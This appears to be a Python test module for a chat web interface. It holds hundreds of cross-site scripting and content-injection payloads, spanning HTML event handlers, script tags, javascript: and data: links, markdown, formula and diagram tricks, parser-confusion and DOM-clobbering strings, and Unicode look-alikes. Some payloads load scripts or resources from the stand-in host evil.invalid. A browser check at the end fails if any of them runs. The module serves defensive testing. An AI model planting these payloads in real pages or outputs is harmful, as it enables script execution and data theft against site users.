"""What somebody may get a model to say so that a page which shows it runs their code, or fetches something of theirs.

Each would open a dialog, set `window.hurt`, or ask the host evil.invalid for something, in a page that is careless in
one particular way: raw HTML, URLs, attributes, markdown's own syntax, formulas, diagrams, parsers that disagree,
clobbered names, letters that are others once they are normalised, our own marks for thoughts and files.
"""

from typing import Any

HANDLERS = [
    f"<{tag} on{event}=alert(1)>"
    for tag, event in [
        ("img src=x", "error"), ("svg", "load"), ("body", "load"), ("input autofocus", "focus"),
        ("select autofocus", "focus"), ("textarea autofocus", "focus"), ("video src=x", "error"),
        ("audio src=x", "error"), ("video><source", "error"), ("details open", "toggle"), ("marquee", "start"),
        ("iframe", "load"), ("object data=x", "error"), ("embed src=x", "load"), ("div", "mouseover"),
        ("a href=# id=x tabindex=1", "focus"), ("button popovertarget=x", "click"),
        ("div popover id=x", "beforetoggle"),
        ("style>*{animation:x}@keyframes x{}</style><p style=animation:x", "animationstart"), ("form", "submit"),
        ("isindex type=image src=x", "error"), ("link rel=stylesheet href=x", "error"), ("image src=x", "error"),
        ("svg><animate attributeName=x dur=1s", "begin"), ("svg><set attributeName=x", "begin"),
        ("table background=x", "load"),
        ("p contenteditable", "blur"), ("div style=overflow:scroll;height:1px", "scroll"), ("x", "pointerenter"),
        ("img srcset=x", "error"), ("track default src=x", "error"), ("math", "click"), ("bgsound src=x", "load"),
    ]
]  # fmt: skip
SCRIPTS = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=http://evil.invalid/x.js></script>",
    "<script type=module>import('http://evil.invalid/m.js')</script>", "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />",
    "<svg><script xlink:href=http://evil.invalid/s.js />", "<math><mi><script>alert(1)</script>",
    "<script>window.hurt=1</script>", "</script><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>", "<plaintext><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
]  # fmt: skip
FETCHES = [
    "<img src=http://evil.invalid/a.png>", "<img src=//evil.invalid/a.png>",
    "<img srcset='http://evil.invalid/b.png 2x'>", "<picture><source srcset=http://evil.invalid/c.png><img></picture>",
    "<link rel=stylesheet href=http://evil.invalid/d.css>", "<link rel=prefetch href=http://evil.invalid/e>",
    "<link rel=dns-prefetch href=//evil.invalid>", "<iframe src=http://evil.invalid/f></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<object data=http://evil.invalid/g></object>",
    "<embed src=http://evil.invalid/h>", "<video poster=http://evil.invalid/i.png></video>",
    "<audio src=http://evil.invalid/j autoplay></audio>", "<style>@import 'http://evil.invalid/k.css';</style>",
    "<style>body{background:url(http://evil.invalid/l.png)}</style>",
    "<div style=\"background:url('http://evil.invalid/m.png')\">x</div>",
    "<table background=http://evil.invalid/n.png><td>x</table>", "<body background=http://evil.invalid/o.png>",
    "<base href=http://evil.invalid/>", "<meta http-equiv=refresh content='0;url=http://evil.invalid/p'>",
    "<form action=http://evil.invalid/q><button autofocus>x</button></form>",
    "<svg><image href=http://evil.invalid/r.png /></svg>", "<svg><use href=http://evil.invalid/s.svg#x /></svg>",
    "<svg><feImage href=http://evil.invalid/t.svg /></svg>", "<input type=image src=http://evil.invalid/u.png>",
    "<portal src=http://evil.invalid/v>", "<frameset><frame src=http://evil.invalid/w></frameset>",
    "![x](http://evil.invalid/1.png)", '![x](http://evil.invalid/2.png "t")',
    "[![x](http://evil.invalid/3.png)](http://evil.invalid/)", "![x][r]\n\n[r]: http://evil.invalid/4.png",
    "![x](//evil.invalid/5.png)", "![x](<http://evil.invalid/6.png>)",
    "| a |\n|---|\n| ![x](http://evil.invalid/7.png) |", "> ![x](http://evil.invalid/8.png)",
    "- ![x](http://evil.invalid/9.png)",
]  # fmt: skip
LINKS = [
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))", "[x](&#x6A;&#x61;vascript:alert(1))", "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)", "[x]( javascript:alert(1))", "[x](\x01javascript:alert(1))",
    "[x](javascript://%0aalert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](vbscript:msgbox(1))",
    "[x](blob:http://evil.invalid/x)", "[x](file:///etc/passwd)", '[x](http://a "t" onmouseover=alert(1))',
    '[x](http://a" onmouseover="alert(1))', "[x](http://a 'onmouseover=alert(1)')", '![x" onerror="alert(1)](x)',
    '![x](x" onerror="alert(1))', '![x](x "t\\" onerror=alert(1) \\"")', "<javascript:alert(1)>",
    "<http://a onmouseover=alert(1)>", "http://a\"onmouseover='alert(1)'", "[x][j]\n\n[j]: javascript:alert(1)",
    '[x][q]\n\n[q]: http://a "\\"><img src=x onerror=alert(1)>"', "[<img src=x onerror=alert(1)>](http://a)",
    "[`x`](javascript:alert(1))", "[x](javascript:window.hurt=1//http://)",
    "<a href=javascript:alert(1) autofocus>x</a>", "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href=data:text/html,x target=_self>x</a>", "<a xlink:href=javascript:alert(1)>x</a>",
    "<svg><a href=javascript:alert(1)><text>x</text></a></svg>", "<math href=javascript:alert(1)>x</math>",
    "<form><button formaction=javascript:alert(1)>x</button></form>", "<isindex action=javascript:alert(1)>",
    "<area href=javascript:alert(1)>",
]  # fmt: skip
MARKDOWN = [
    "```<img src=x onerror=alert(1)>\ncode\n```", '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```html onload=alert(1)\n<img src=x onerror=alert(1)>\n```", "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "``<img src=x onerror=alert(1)>``", "    <img src=x onerror=alert(1)>", "~~~js\"'><script>alert(1)</script>\n~~~",
    "# <img src=x onerror=alert(1)>", "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
    "- [ ] <img src=x onerror=alert(1)>", "1. <svg/onload=alert(1)>", "> <svg onload=alert(1)>",
    "**<img src=x onerror=alert(1)>**", "~~<img src=x onerror=alert(1)>~~", "\\<img src=x onerror=alert(1)\\>",
    "&lt;img src=x onerror=alert(1)&gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "<!-- --!><img src=x onerror=alert(1)> -->", "<!--><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml <img src=x onerror=alert(1)> ?>",
    "<!DOCTYPE x [<!ENTITY e 'x'>]><img src=x onerror=alert(1)>",
]  # fmt: skip
PARSERS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></foreignObject></svg>",
    "<svg><title><style><!--</style><img src=x onerror=alert(1)>--></title></svg>",
    "<select><template><style><!--</style><a rel='--></style></template><img src=x onerror=alert(1)>'></select>",
    "<img src='x`<img src=x onerror=alert(1)>'>", "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<img/src/onerror=alert(1)>", "<img src=x onerror\x0b=alert(1)>",
    '<a href="x\x00" onclick=alert(1)>x</a>'.replace("\x00", "�"),
    "<a id=x><a id=x name=y href='cid:<img src=x onerror=alert(1)>'>",
    "<form id=csrf><input name=attributes><input name=innerHTML></form>",
    "<img name=getElementById><img name=querySelector><img name=cookie>",
    "<a id=app></a><a id=thread></a><form id=prompt></form>",
    "<div id=send class=send><input id=key autofocus onfocus=alert(1)></div>",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "\"'--></style></script><svg onload=alert(1)>",
]  # fmt: skip
FORMULAS = [
    r"\(\href{javascript:alert(1)}{x}\)", r"$$\includegraphics{http://evil.invalid/x.png}$$",
    r"$\url{javascript:alert(1)}$",
    r"\(\htmlData{onload=alert(1)}{x}\)", r"\(\htmlStyle{background:url(http://evil.invalid/y.png)}{x}\)",
    r"\[\htmlId{app}{x}\htmlClass{send}{y}\]", r"\(\text{<img src=x onerror=alert(1)>}\)",
    "$<img src=x onerror=alert(1)>$",
    r"\(\color{red;background:url(http://evil.invalid/z.png)}x\)", "\\(\"><img src=x onerror=alert(1)>\\)",
    r"$$\def\x{<script>alert(1)</script>}\x$$", r"\(\unicode{60}script\)", r"\(\rule{1em}{1em} onload=alert(1)\)",
]  # fmt: skip
MARKS = [
    '```mermaid\ngraph TD\n  A[<img src=x onerror=alert(1)>] --> B\n  click A href "javascript:alert(1)"\n```',
    '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD\n  click A call alert(1)\n```',
    "```svg\n<svg onload=alert(1)>\n```", "```math\n\\href{javascript:alert(1)}{x}\n```",
    "<think><img src=x onerror=alert(1)></think><svg onload=alert(1)>", "<think>[x](javascript:alert(1))",
    '<file name="<img src=x onerror=alert(1)>">\n<script>alert(1)</script>\n</file>',
    '<file name="x" onclick="alert(1)">\n<svg onload=alert(1)>\n</file>', "__proto__", "constructor",
    '#/conv_x" onclick="alert(1)', "\\u003cimg src=x onerror=alert(1)\\u003e", "%3Cimg src=x onerror=alert(1)%3E",
]  # fmt: skip
LETTERS = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\u017fcript>alert(1)</\u017fcript>",
    "<\u212aeygen onfocus=alert(1)>", "[x](java\u200bscript:alert(1))", "[x](\ufeffjavascript:alert(1))",
    "[x](\uff4aavascript:alert(1))", "[x](\u2028javascript:alert(1))", "\u202e<img src=x onerror=alert(1)>\u202c",
    "<img\u2028src=x\u2029onerror=alert(1)>", "<svg\u00a0onload=alert(1)>", "<img src=x onerror\uff1dalert(1)>",
    "\x1b]8;;javascript:alert(1)\x1b\\x\x1b]8;;\x1b\\",
]  # fmt: skip
PAYLOADS = [*HANDLERS, *SCRIPTS, *FETCHES, *LINKS, *MARKDOWN, *PARSERS, *FORMULAS, *MARKS, *LETTERS]

NOTHING_RUNS = r"""(() => {
  const wrong = [];
  const bad = `script, style, iframe, object, embed, img, image, video, audio, source, link, meta, base, form, math,
    svg, template, frameset, frame, portal, area, isindex, marquee`;
  const ours = `.sprite, .sprite *, svg.icon, svg.icon > use, form#login-form, form#composer, dialog > form,
    #room form, 
    img[src^="data:image/png;base64,"], .math.typeset .katex *`;
  for (const element of document.body.querySelectorAll("*")) {
    const shown = element.parentElement.closest(".prose, .bubble, #conversations, #turns, .answer-card .text, #models");
    if (element.matches(bad) && !element.matches(ours)) wrong.push(element.outerHTML);
    for (const { name, value } of element.attributes) {
      const drawn = name === "style" && element.matches(".math.typeset .katex *, #gauge-fill, #prompt");
      const active = /^on|^style$|^srcset$|^srcdoc$|^background$|^formaction$|^xlink:/.test(name);
      if (active && !drawn) wrong.push(element.outerHTML);
      if (name === "src" && !value.startsWith("data:image/png;base64,")) wrong.push(element.outerHTML);
      if (name === "id" && shown) wrong.push(element.outerHTML);
      const leads = /^(https?:|mailto:|#|\.\/$|label$|versions$|api\/)/.test(value);
      if (name === "href" && !leads) wrong.push(element.outerHTML);
    }
    if (!shown) continue;
    for (const event of ["mouseover", "focus", "pointerenter", "animationstart", "error", "load", "toggle"]) {
      element.dispatchEvent(new Event(event));
    }
  }
  if (window.hurt) wrong.push("window.hurt");
  return wrong.map((html) => html.slice(0, 300));
})()"""
"""The elements of a page that no text of anybody may make."""


def nothing_runs(page: Any) -> None:
    """Of a page with hostile text on it. Its watch fails for dialogs, other hosts and breaches of policy."""
    wrong = page.evaluate(NOTHING_RUNS)
    assert not wrong, wrong
